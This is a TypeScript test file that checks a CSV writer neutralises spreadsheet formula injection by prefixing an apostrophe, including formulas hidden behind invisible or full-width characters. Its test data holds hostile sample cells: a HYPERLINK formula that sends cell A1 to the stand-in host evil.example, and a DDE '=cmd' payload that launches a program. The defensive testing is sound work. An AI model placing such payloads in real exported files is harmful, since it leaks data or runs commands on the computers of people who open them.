import { describe, expect, it } from 'vitest'
import { CSV_START, csvLine } from './csv'
import { parseCsv } from './csv.fixture'

/** The cases of hostile/csv-and-text-cells.json: what goes in, and the text a spreadsheet reads back. */
const CASES: readonly [id: string, input: string, text: string][] = [
  ['PC01', '=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'],
  ['PC03', '-2+3', "'-2+3"],
  ['PC05', '@SUM(1)', "'@SUM(1)"],
  ['PC07', '\r=1', "'\r=1"],
  ['PC09', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['PC11', 'a,b', 'a,b'],
  ['PC13', 'a\nb', 'a\nb'],
  ['PC15', '中文', '中文'],
]

describe('CSV cell', () => {
  it.each(CASES)('hostile cell %s: read back as text (T-25)', (_id, input, text) => {
    expect(parseCsv(csvLine(['before', input, 'behind']))).toEqual([['before', text, 'behind']])
  })
  it.each(['\t=1', '\n=1', '＝1', '＋1', '－1', '＠A1', '+1'])(
    'other formula prefix %j: gets an apostrophe',
    (input) => expect(parseCsv(csvLine([input]))[0]?.[0]).toBe(`'${input}`),
  )
  it.each([
    '\u0000=1',
    '\u0000\u0000+1',
    '\u0001-1',
    '\u0007@A1',
    '\u001B=1',
    '\u007F=1',
    '\u0085=1',
    '\u00A0=1',
    '\u00AD=1',
    '\u0301=1',
    '\u061C=1',
    '\u180E=1',
    '\u200B=1',
    '\u200D+1',
    '\u202E=1',
    '\u2028=1',
    '\u2060@A1',
    '\uFEFF=1',
    '\uFFF9=1',
    ' =1',
    '  \t =1',
    '\u0000 \u200B-1',
    '\u{E0001}=1',
    '﹦1',
    '﹢1',
    '−1',
  ])('formula after invisible characters %j: gets an apostrophe', (input) =>
    expect(parseCsv(csvLine(['x', input]))[0]?.[1]).toBe(`'${input}`),
  )
  it.each([
    ['a;=1', "a;'=1"],
    ['phone\t=HYPERLINK("https://evil.example")', 'phone\t\'=HYPERLINK("https://evil.example")'],
    ['a\n-2+3', "a\n'-2+3"],
    ['a\r\n@SUM(1)', "a\r\n'@SUM(1)"],
    ['a; \u200B+1', "a; \u200B'+1"],
    ['a;;＝1', "a;;'＝1"],
    ['a;b;=1;c\t+2', "a;b;'=1;c\t'+2"],
    ['"a";−1', '"a";\'−1'],
    [';=1', ";'=1"],
  ])('formula inside text %j: gets an apostrophe where another separator would begin a cell', (input, text) =>
    expect(parseCsv(csvLine(['x', input, 'y']))).toEqual([['x', text, 'y']]),
  )
  it.each(['a;b=1', 'a;1-2', 'a\tb@c', 'a,=1', 'a;', 'a\n\n', 'x = 1; y'])(
    'text with a separator but no formula after it %j: read back unchanged',
    (input) => expect(parseCsv(csvLine(['x', input, 'y']))).toEqual([['x', input, 'y']]),
  )
  it('one megabyte of line ends: read once', () => {
    const cell = `${'\n'.repeat(1_000_000)}x`
    // A line end at the beginning gets an apostrophe of its own.
    expect(csvLine([cell])).toBe(`"'${cell}"\r\n`)
  })
  it.each(['\u0000a', ' a=1', 'a\u0000=1', '\u200B', ' ', '1-2', '"=1', "'=1"])(
    'not a formula %j: read back unchanged',
    (input) => expect(parseCsv(csvLine(['x', input, 'y']))).toEqual([['x', input, 'y']]),
  )
  it('one megabyte of invisible characters: written unchanged', () => {
    const cell = `${'\u0000 '.repeat(500_000)}x`
    expect(csvLine([cell])).toBe(`"${cell}"\r\n`)
  })
  it.each(['say "hi"', ' edges ', 'a;b', '', 'a\r\nb', '"', '""'])(
    'plain text %j: read back unchanged',
    (input) => expect(parseCsv(csvLine(['x', input, 'y']))).toEqual([['x', input, 'y']]),
  )
  it('negative number: written without an apostrophe', () =>
    expect(csvLine([-5, 1.5, true])).toBe('-5,1.5,true\r\n'))
})

it('cells with commas, line breaks or quotes: quoted (PC01, PC11, PC13)', () => {
  expect(csvLine(['a,b'])).toBe('"a,b"\r\n')
  expect(csvLine(['a\nb'])).toBe('"a\nb"\r\n')
  expect(csvLine(['=A1&"x"'])).toBe('"\'=A1&""x"""\r\n')
})

it('CSV_START: UTF-8 byte order mark (PC15)', () => expect(CSV_START).toBe('\uFEFF'))
